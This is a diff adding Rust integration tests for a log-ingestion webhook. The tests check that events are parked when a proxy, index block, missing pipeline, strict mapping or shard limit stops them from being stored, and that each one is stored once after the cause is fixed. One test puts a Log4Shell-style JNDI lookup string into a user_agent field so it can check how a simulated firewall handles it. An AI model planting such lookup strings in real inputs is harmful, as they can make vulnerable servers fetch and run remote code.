@@ -3,13 +3,15 @@
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
-use chrono::{SecondsFormat, Utc};
+use chrono::{SecondsFormat, TimeDelta, Utc};
+use reqwest::Method;
 use serde_json::{Value, json};
-use support::events::{json_lines, log_ids};
+use support::engine::DataStream;
+use support::events::{Events, json_lines, log_ids};
 use support::parked;
 use support::proxy::Fault;
-use support::runtime::{InvokeError, eventually};
-use support::stack::EngineKind;
+use support::runtime::{Function, InvokeError, eventually};
+use support::stack::{self, EngineKind};
 
 use crate::world::{
     SHORT, WebhookResponse, World, deliver, deliver_within, events, poll, post, post_within,
@@ -22,6 +24,13 @@ on_both_engines![
     killed_webhook_has_acknowledged_only_durable_batches,
     concurrent_posts_and_poll_leave_one_document_per_event,
     refused_event_becomes_error_document_and_harms_no_other,
+    proxy_that_rejects_every_request_parks_events_until_it_stops,
+    blocked_index_parks_events_until_it_is_writable,
+    missing_pipeline_parks_events_until_it_is_there,
+    strict_mapping_parks_events_until_it_is_mended,
+    shard_limit_parks_events_until_there_is_room,
+    firewall_that_blocks_one_event_harms_no_other,
+    refused_event_is_stored_once_its_cause_is_mended,
     unwritable_message_becomes_dead_letter_byte_for_byte,
     redrive_returns_only_messages_it_could_not_write,
     redrive_writes_all_messages_in_one_request,
@@ -222,8 +231,9 @@ async fn refused_event_becomes_error_document_and_harms_no_other(kind: EngineKin
     for hit in &refused {
         let document = &hit["_source"];
         assert!(document["error"]["message"].is_string(), "{document}");
-        let original: Value =
-            serde_json::from_str(document["event"]["original"].as_str().unwrap()).unwrap();
+        // One without the event says that the dead-letter queue has it.
+        let Some(original) = document["event"]["original"].as_str() else { continue };
+        let original: Value = serde_json::from_str(original).unwrap();
         kept.push(original["log_id"].as_str().unwrap().to_owned());
     }
     for body in world.queues.dead_bodies().await {
@@ -372,4 +382,180 @@ async fn event_too_large_for_a_message_harms_no_other_and_is_kept(kind: EngineKi
     }
     world.queues.drain(&redrive).await;
     world.stream.assert_holds_exactly(&log_ids(&events)).await;
+}
+
+/// Events of this moment: nobody has tried to store them for long.
+fn fresh_events(count: usize) -> Vec<Value> {
+    Events::new(fastrand::u64(..), Utc::now()).take(count)
+}
+
+/// Posts a batch that the operator keeps from being stored: it is parked, its cause is logged once and
+/// rings, and there it stays.
+async fn assert_waits_for_the_operator(
+    world: &World,
+    stream: &DataStream,
+    [webhook, redrive]: [&Function; 2],
+    batch: &[Value],
+    cause: &str,
+) {
+    let answer = post_within(webhook, json_lines(batch).as_bytes(), SHORT).await.unwrap();
+    assert_eq!(answer.status, 200, "{answer:?}\n{}", webhook.last_logs());
+    assert_eq!(answer.body["parked"], batch.len(), "{answer:?}\n{}", webhook.last_logs());
+    eventually("the metrics are written", async || {
+        webhook.logs().contains("\"EngineMisconfigured\":1")
+    })
+    .await;
+    let logs = webhook.logs();
+    assert_eq!(logs.matches(cause).count(), 1, "{cause}:\n{logs}");
+
+    let parked = world.queues.parked().await;
+    assert!(parked > 0, "{cause}");
+    let (received, failed) = world.queues.deliver_batch(redrive, SHORT).await;
+    assert_eq!(received, failed, "{cause}:\n{}", redrive.last_logs());
+    assert_eq!(world.queues.parked().await, parked, "{cause}");
+    assert_eq!(stream.count().await, 0, "{cause}");
+    assert_eq!(world.queues.dead_letters().await, 0, "{cause}");
+}
+
+/// The cause is gone: redrive stores each event once.
+async fn assert_is_stored_once(
+    world: &World,
+    stream: &DataStream,
+    redrive: &Function,
+    batch: &[Value],
+) {
+    world.queues.drain(redrive).await;
+    stream.assert_holds_exactly(&log_ids(batch)).await;
+    assert_eq!(world.queues.dead_letters().await, 0);
+}
+
+async fn proxy_that_rejects_every_request_parks_events_until_it_stops(kind: EngineKind) {
+    for status in [301, 400, 403, 404, 413] {
+        let world = World::new(kind).await;
+        let (webhook, redrive) = (world.webhook(), world.redrive());
+        let batch = fresh_events(20);
+        world.proxy.fail(Fault::Page(status)).await;
+        let cause = format!("HTTP {status}, not from the engine");
+        let functions = [&webhook, &redrive];
+        assert_waits_for_the_operator(&world, &world.stream, functions, &batch, &cause).await;
+        assert!(world.proxy.failed() <= 4, "it asked {} times", world.proxy.failed());
+        world.proxy.heal().await;
+        assert_is_stored_once(&world, &world.stream, &redrive, &batch).await;
+    }
+}
+
+/// The same with a setting or mapping of the data stream that keeps events from being stored.
+async fn parks_events_while_the_stream_is(
+    kind: EngineKind,
+    path: &str,
+    broken: Value,
+    mended: Value,
+    cause: &str,
+) {
+    let world = World::new(kind).await;
+    let (webhook, redrive) = (world.webhook(), world.redrive());
+    let mut batch = fresh_events(20);
+    for event in &mut batch {
+        event["data"]["not_in_the_mapping"] = json!("x");
+    }
+    configure(&world.stream, path, broken).await;
+    let functions = [&webhook, &redrive];
+    assert_waits_for_the_operator(&world, &world.stream, functions, &batch, cause).await;
+    configure(&world.stream, path, mended).await;
+    assert_is_stored_once(&world, &world.stream, &redrive, &batch).await;
+}
+
+async fn configure(stream: &DataStream, path: &str, body: Value) {
+    let path = format!("{}/{path}", stream.name);
+    let answer = stream.engine.call(Method::PUT, &path, Some(body)).await;
+    assert_eq!(answer["acknowledged"], true, "{answer}");
+}
+
+async fn blocked_index_parks_events_until_it_is_writable(kind: EngineKind) {
+    let blocked = |is_blocked: bool| json!({ "index.blocks.write": is_blocked });
+    let cause = "HTTP 403 cluster_block_exception: index [";
+    parks_events_while_the_stream_is(kind, "_settings", blocked(true), blocked(false), cause).await;
+}
+
+async fn missing_pipeline_parks_events_until_it_is_there(kind: EngineKind) {
+    let pipeline = |name: Value| json!({ "index.default_pipeline": name });
+    let cause = "HTTP 400 illegal_argument_exception: pipeline with id [not-there] does not exist";
+    let (broken, mended) = (pipeline(json!("not-there")), pipeline(Value::Null));
+    parks_events_while_the_stream_is(kind, "_settings", broken, mended, cause).await;
+}
+
+async fn strict_mapping_parks_events_until_it_is_mended(kind: EngineKind) {
+    let dynamic = |dynamic: Value| json!({ "dynamic": dynamic });
+    let cause = "HTTP 400 strict_dynamic_mapping_exception [auth0.logs.data]";
+    let (broken, mended) = (dynamic(json!("strict")), dynamic(json!(false)));
+    parks_events_while_the_stream_is(kind, "_mapping", broken, mended, cause).await;
+}
+
+async fn shard_limit_parks_events_until_there_is_room(kind: EngineKind) {
+    let world = World::new(kind).await;
+    // A stream that does not exist yet, and a template by which it needs more shards than a node may
+    // have: 1,000. Lowering the limit would fail the tests that run at the same time.
+    let namespace = stack::unique("limit");
+    let stream = DataStream::new(world.stream.engine.clone(), &namespace);
+    let template = format!("_index_template/{namespace}");
+    let body = json!({
+        "index_patterns": [stream.name],
+        "priority": 1_000,
+        "data_stream": {},
+        "template": { "settings": { "number_of_shards": 1_024, "number_of_replicas": 1 } },
+    });
+    let installed = stream.engine.call(Method::PUT, &template, Some(body)).await;
+    assert_eq!(installed["acknowledged"], true, "{installed}");
+    let changes = [("DATA_STREAM_NAMESPACE", namespace.as_str())];
+    let webhook = world.function_with("webhook", 1, &changes);
+    let redrive = world.function_with("redrive", 1, &changes);
+    let batch = fresh_events(20);
+    let cause = "this action would add [2048]";
+    assert_waits_for_the_operator(&world, &stream, [&webhook, &redrive], &batch, cause).await;
+    let deleted = stream.engine.call(Method::DELETE, &template, None).await;
+    assert_eq!(deleted["acknowledged"], true, "{deleted}");
+    assert_is_stored_once(&world, &stream, &redrive, &batch).await;
+}
+
+async fn firewall_that_blocks_one_event_harms_no_other(kind: EngineKind) {
+    let world = World::new(kind).await;
+    let webhook = world.webhook();
+    let mut batch = fresh_events(20);
+    batch[7]["data"]["user_agent"] = json!("${jndi:ldap://example.com/x}");
+    world.proxy.fail(Fault::Block("jndi")).await;
+    deliver(&webhook, json_lines(&batch).as_bytes()).await;
+    world.queues.drain(&world.redrive()).await;
+
+    // The firewall blocks the event's text in an error document, too.
+    let blocked = batch.remove(7);
+    let bodies = world.queues.dead_bodies().await;
+    assert_eq!(bodies.len(), 1, "{}", webhook.last_logs());
+    let (header, events) = parked::unpack(&bodies[0]);
+    assert_eq!(header["reason"], "HTTP 403, not from the engine");
+    assert_eq!(events, [blocked.to_string().into_bytes()]);
+    let id = format!("{}-dead-letter", log_ids(&[blocked])[0]);
+    world.stream.assert_holds_exactly(&[log_ids(&batch), vec![id]].concat()).await;
+    assert!(!webhook.logs().contains("jndi"), "{}", webhook.logs());
+}
+
+async fn refused_event_is_stored_once_its_cause_is_mended(kind: EngineKind) {
+    let world = World::new(kind).await;
+    let webhook = world.webhook();
+    // They have been refused for so long that they are set aside.
+    let mut batch = Events::new(fastrand::u64(..), Utc::now() - TimeDelta::hours(2)).take(3);
+    for event in &mut batch {
+        event["data"]["not_in_the_mapping"] = json!("x");
+    }
+    let body = json_lines(&batch);
+    configure(&world.stream, "_mapping", json!({ "dynamic": "strict" })).await;
+    let answer = post(&webhook, body.as_bytes()).await.unwrap();
+    assert_eq!(answer.body["rejected"], 3, "{answer:?}\n{}", webhook.last_logs());
+    let errors: Vec<String> = log_ids(&batch).iter().map(|id| format!("{id}-refused")).collect();
+    world.stream.assert_holds_exactly(&errors).await;
+    let line = "the engine rejected events";
+    assert_eq!(webhook.logs().matches(line).count(), 1, "{}", webhook.logs());
+
+    configure(&world.stream, "_mapping", json!({ "dynamic": false })).await;
+    deliver(&webhook, body.as_bytes()).await;
+    world.stream.assert_holds_exactly(&[errors, log_ids(&batch)].concat()).await;
 }
